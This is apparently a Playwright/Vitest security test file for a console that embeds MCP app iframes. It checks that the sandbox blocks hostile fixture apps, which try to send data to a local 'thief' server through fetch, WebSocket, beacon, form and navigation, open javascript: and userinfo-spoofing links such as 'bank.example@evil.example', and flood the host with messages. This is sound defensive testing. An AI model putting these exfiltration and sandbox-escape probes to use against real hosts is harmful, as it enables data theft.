import { createServer, type Server } from "node:http";
import type { FrameLocator, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { axeFindings } from "./axe.ts";
import { type FixtureTool, KindsServer } from "./kinds-server.ts";
import { TaskPage } from "./task-page.ts";
import { testBrowser } from "./test-browser.ts";
import { until } from "./until.ts";

const at = testBrowser();
let server: KindsServer;
/** Another site, where hostile apps would bring what they know. */
let thief: Server;
/** The requests that came there. Chromium may open a connection to it without one: before it applies the policy to a navigation. */
const stolen: (string | undefined)[] = [];

const TYPE = "text/html;profile=mcp-app";
const NAMES = [
  "polite",
  "curious",
  "wanderer",
  "flood",
  "tall",
  "large",
  "leaver",
  "page",
  "huge",
  "deprecated",
] as const;

/** A tool whose results the app of the same name shows. */
function withApp(name: string): FixtureTool {
  const uri = `ui://kinds/${name}`;
  const meta = name === "deprecated" ? { "ui/resourceUri": uri } : { ui: { resourceUri: uri } };
  return {
    definition: {
      name,
      description: `Returns what the app ${name} shows`,
      inputSchema: { type: "object", properties: { n: { type: "integer" } } },
      _meta: meta,
    },
    run: ({ n }) => ({
      content: [{ type: "text", text: "as text" }],
      structuredContent: { double: Number(n) * 2 },
    }),
  };
}

/** What an app of the SDK does, in a few lines: says hello, and notes what it gets. */
const CLIENT = `
  const got = [];
  let last = 0;
  const waiting = new Map();
  const log = (text) => { document.querySelector("#log").textContent += text + "\\n"; };
  const send = (message) => parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
  const ask = (method, params) => new Promise((resolve) => { waiting.set(++last, resolve); send({ id: last, method, params }); });
  addEventListener("message", ({ source, data }) => {
    if (source !== parent) return;
    if (data.method) {
      got.push(data);
      log(data.method + " " + JSON.stringify(data.params));
      if (data.id !== undefined) send({ id: data.id, result: {} });
    } else waiting.get(data.id)?.(data);
  });
  const start = async () => {
    const reply = await ask("ui/initialize", { appInfo: { name: "test", version: "1" }, appCapabilities: {}, protocolVersion: "2026-01-26" });
    log("initialize " + JSON.stringify(reply.result));
    send({ method: "ui/notifications/initialized", params: {} });
  };
`;

const app = (script: string): string =>
  `<!doctype html><html lang="en"><title>App</title><body><h1>The app</h1><pre id="log"></pre><script>${CLIENT}${script}</script></body></html>`;

const APPS: Readonly<Record<(typeof NAMES)[number], string>> = {
  polite: app(`
    start().then(async () => {
      send({ method: "ui/notifications/size-changed", params: { width: 300, height: 333 } });
      log("ping " + JSON.stringify((await ask("ping")).result));
      for (const method of ["tools/call", "resources/read", "ui/message", "ui/update-model-context", "sampling/createMessage"])
        log(method + " " + (await ask(method, { name: "polite", uri: "ui://kinds/page" })).error.code);
      log("javascript " + (await ask("ui/open-link", { url: "javascript:alert(1)" })).error.code);
      log("http " + (await ask("ui/open-link", { url: "http://127.0.0.1/" })).error.code);
      log("userinfo " + (await ask("ui/open-link", { url: "https://bank.example@evil.example/" })).error.code);
      log("first link " + JSON.stringify(await ask("ui/open-link", { url: "https://app.invalid/first" })));
      log("second link " + JSON.stringify(await ask("ui/open-link", { url: "https://app.invalid/second" })));
    });
  `),
  deprecated: app(`start();`),
  curious: app(`
    const tried = async (name, run) => {
      try { log(name + ": reached " + (await run())); } catch (error) { log(name + ": " + error.name); }
    };
    const loads = (tag, set) => new Promise((resolve, reject) => {
      const element = document.createElement(tag);
      element.onload = () => resolve("it");
      element.onerror = () => reject(new DOMException("", "NotLoaded"));
      set(element);
      document.body.append(element);
    });
    (async () => {
      await tried("origin", () => { if (origin === "null") throw new DOMException("", "Opaque"); return origin; });
      await tried("parent document", () => parent.document.title);
      await tried("parent location", () => parent.location.href);
      await tried("localStorage", () => localStorage.length);
      await tried("sessionStorage", () => sessionStorage.length);
      await tried("cookies", () => document.cookie);
      await tried("indexedDB", () => new Promise((resolve, reject) => {
        const opened = indexedDB.open("holdfast");
        opened.onsuccess = () => resolve("it");
        opened.onerror = () => reject(opened.error);
      }));
      await tried("caches", () => caches.keys());
      await tried("fetch own", () => fetch("/healthz", { mode: "no-cors" }));
      await tried("fetch other", () => fetch(SECRET, { mode: "no-cors" }));
      await tried("socket", () => new Promise((resolve, reject) => {
        const socket = new WebSocket(SECRET.replace("http", "ws"));
        socket.onopen = () => resolve("it");
        socket.onerror = () => reject(new DOMException("", "NotLoaded"));
      }));
      await tried("image", () => loads("img", (img) => { img.src = SECRET; }));
      await tried("script", () => loads("script", (script) => { script.src = SECRET; }));
      await tried("style", () => loads("link", (link) => { link.rel = "stylesheet"; link.href = SECRET; }));
      await tried("eval", () => eval("1"));
      await tried("popup", () => { if (open(SECRET) === null) throw new DOMException("", "Blocked"); return "it"; });
      await tried("top", () => { top.location.href = SECRET; return "it"; });
      await tried("form", () => {
        const form = document.createElement("form");
        form.action = SECRET;
        document.body.append(form);
        form.submit();
        throw new DOMException("", "Unknown");
      });
      navigator.sendBeacon?.(SECRET, "kelp");
      log("tried all");
    })();
  `),
  wanderer: app(`start().then(() => { location.href = SECRET + "?" + JSON.stringify(got); });`),
  flood: app(
    `start().then(() => { for (;;) send({ method: "ui/notifications/size-changed", params: { height: 100 } }); });`,
  )
    // A loop without an end would hold the frame's own process, and the test could not see why the app went.
    .replace("for (;;)", "for (let index = 0; index < 20000; index++)"),
  tall: app(
    `start().then(() => send({ method: "ui/notifications/size-changed", params: { height: 100000 } }));`,
  ),
  large: app(`
    start().then(async () => {
      log("large " + (await ask("ui/open-link", { url: "https://app.invalid/" + "k".repeat(70000) })).error.code);
      log("deep " + (await ask("ping", { a: Array.from({ length: 70000 }, () => []) })).error.code);
      log("buffer " + (await ask("ping", { a: new Uint8Array(100) })).error.code);
      for (let index = 0; index < 30; index++) send({ id: "x" + index, method: "ping", params: { text: "k".repeat(1000000) } });
    });
  `),
  leaver: app(`start().then(() => location.reload());`),
  page: "<title>No app</title>",
  huge: `<!doctype html>${"k".repeat(2_000_001)}`,
};

beforeAll(async () => {
  server = await KindsServer.start(NAMES.map(withApp));
  thief = createServer(({ url }, response) => {
    stolen.push(url);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end();
  });
  await new Promise<void>((resolve) => thief.listen(0, "127.0.0.1", resolve));
  const address = thief.address();
  const secret = `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}/stolen`;
  for (const name of NAMES) {
    const uri = `ui://kinds/${name}`;
    const text = APPS[name].replaceAll("SECRET", JSON.stringify(secret));
    server.resources.set(uri, { contents: [{ uri, mimeType: name === "page" ? "text/html" : TYPE, text }] });
  }
});
afterAll(async () => {
  await server.close();
  thief.closeAllConnections();
  await new Promise((resolve) => thief.close(resolve));
});
beforeEach(() => {
  server.reads.length = stolen.length = 0;
});

async function opened(): Promise<TaskPage> {
  const view = new TaskPage(await at.browser.open(at.lab.page));
  await view.addServer(server.url);
  return view;
}

async function resultOf(view: TaskPage, tool: string): Promise<void> {
  await view.choose(server.url);
  await view.call(tool, { n: 21 });
  await view.result.locator("h3").waitFor();
}

const offer = (view: TaskPage) => view.result.getByRole("button", { name: "Show the app of this server" });
const takeBack = (view: TaskPage) =>
  view.result.getByRole("button", { name: "Do not show apps of this server" });
const frameOf = (view: TaskPage): FrameLocator => view.result.frameLocator("iframe");

/** What the app has noted, once it noted this. */
async function noted(view: TaskPage, text: string): Promise<readonly string[]> {
  const log = frameOf(view).locator("#log");
  await log.filter({ hasText: text }).waitFor();
  return ((await log.textContent()) ?? "").split("\n");
}

async function shown(tool: string): Promise<TaskPage> {
  const view = await opened();
  await resultOf(view, tool);
  await offer(view).click();
  return view;
}

test("an app is off until the person allows its server, gets its call, and goes when that is taken back", async () => {
  const view = await opened();
  await resultOf(view, "polite");
  await offer(view).waitFor();
  expect(server.reads).toEqual([]);
  expect(await view.page.locator("iframe").count()).toBe(0);
  expect((await axeFindings(view.page)).map(({ rule }) => rule)).toEqual([]);

  await offer(view).click();
  await noted(view, "ui/notifications/tool-result");
  const lines = await noted(view, "userinfo");
  expect(server.reads).toEqual(["ui://kinds/polite"]);
  const [hello = ""] = lines;
  expect(JSON.parse(hello.replace("initialize ", ""))).toMatchObject({
    protocolVersion: "2026-01-26",
    hostCapabilities: { openLinks: {} },
    hostContext: { displayMode: "inline" },
  });
  expect(lines).toContain('ui/notifications/tool-input {"arguments":{"n":21}}');
  expect(lines.find((line) => line.startsWith("ui/notifications/tool-result"))).toContain('{"double":42}');
  expect(lines).toEqual(
    expect.arrayContaining([
      "ping {}",
      ...["tools/call", "resources/read", "ui/message", "ui/update-model-context"].map(
        (name) => `${name} -32601`,
      ),
      "sampling/createMessage -32601",
      "javascript -32602",
      "http -32602",
      "userinfo -32602",
    ]),
  );
  expect(await view.result.locator("iframe").getAttribute("height")).toBe("333");
  expect(await view.result.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");

  const question = view.result.getByRole("alert");
  await question.getByText("https://app.invalid/first").waitFor();
  expect((await axeFindings(view.page)).map(({ rule }) => rule)).toEqual([]);
  await question.getByRole("button", { name: "Do not open it" }).click();
  await question.getByText("https://app.invalid/second").waitFor();
  const open = question.getByRole("link", { name: "Open it" });
  await open.waitFor();
  expect(await open.getAttribute("rel")).toBe("noopener noreferrer");
  const popup = view.page.waitForEvent("popup");
  await open.click();
  await popup;
  await view.page.bringToFront();
  const answers = await noted(view, "second link");
  expect(answers.find((line) => line.startsWith("first link"))).toContain("-32000");
  expect(answers.find((line) => line.startsWith("second link"))).toContain('"result":{}');

  // Allowed, the server's other apps and this one after a reload are shown at once.
  await view.reload();
  await view.open();
  await noted(view, "ui/notifications/tool-result");
  await takeBack(view).click();
  await offer(view).waitFor();
  expect(await view.page.locator("iframe").count()).toBe(0);
  await view.reload();
  await view.open();
  await offer(view).waitFor();
  expect(await view.page.locator("iframe").count()).toBe(0);
});

test("an app reaches neither the console's page nor its storage nor any network, and leads nowhere", async () => {
  const view = await shown("curious");
  const before = view.page.url();
  const lines = await noted(view, "tried all");
  const reached = lines.filter((line) => line.includes("reached"));
  expect(reached).toEqual([]);
  expect(lines.filter((line) => line !== "" && line !== "tried all")).toHaveLength(18);
  expect(lines).toContain("origin: Opaque");
  expect(lines.find((line) => line.startsWith("localStorage"))).toBe("localStorage: SecurityError");
  expect(stolen).toEqual([]);
  expect(view.page.url()).toBe(before);
  expect(view.page.context().pages()).toHaveLength(2);
});

test("an app that leads its frame to another site gets no request out", async () => {
  const view = await shown("wanderer");
  const frame = await (await view.result.locator("iframe").elementHandle())?.contentFrame();
  // The browser's own page, which says that the console's policy refused the other.
  await until("the frame has left the app", () =>
    frame?.url().startsWith("chrome-error:") ? true : undefined,
  );
  expect(stolen).toEqual([]);
});

test.each([
  ["flood", "The app sent too many messages, so it was closed."],
  ["large", "The app sent too much, so it was closed."],
  ["leaver", "The app left its page, so it was closed."],
  ["page", "is not an app: the server calls it text/html"],
  ["huge", "The app is too large to show here"],
])("an app that is %s is closed or refused, with the reason: %s", async (tool, reason) => {
  const view = await shown(tool);
  await view.result.getByRole("alert").filter({ hasText: reason }).waitFor();
  expect(await view.page.locator("iframe").count()).toBe(0);
  await view.result.getByText("as text").first().waitFor();
  expect((await axeFindings(view.page)).map(({ rule }) => rule)).toEqual([]);
});

test("an app is at most 800 px high, whatever it claims", async () => {
  const view = await shown("tall");
  await view.result.locator('iframe[height="800"]').waitFor();
});

test("the deprecated place of the app's address is read, too", async () => {
  const view = await shown("deprecated");
  await noted(view, "ui/notifications/tool-result");
});

test("where the frame's page has another policy, no app is fetched or shown, and the page says why", async () => {
  const view = await opened();
  // What a development server or static hosting answers: the console's own page, without a policy.
  const fallback = (page: Page) =>
    page.route("**/app-frame", (route) =>
      route.fulfill({ contentType: "text/html", body: "<script>1</script>" }),
    );
  await fallback(view.page);
  await resultOf(view, "polite");
  await offer(view).click();
  await view.result
    .getByRole("alert")
    .filter({ hasText: "only where a Holdfast worker serves the console" })
    .waitFor();
  expect(await view.page.locator("iframe").count()).toBe(0);
  expect(server.reads).toEqual([]);
});
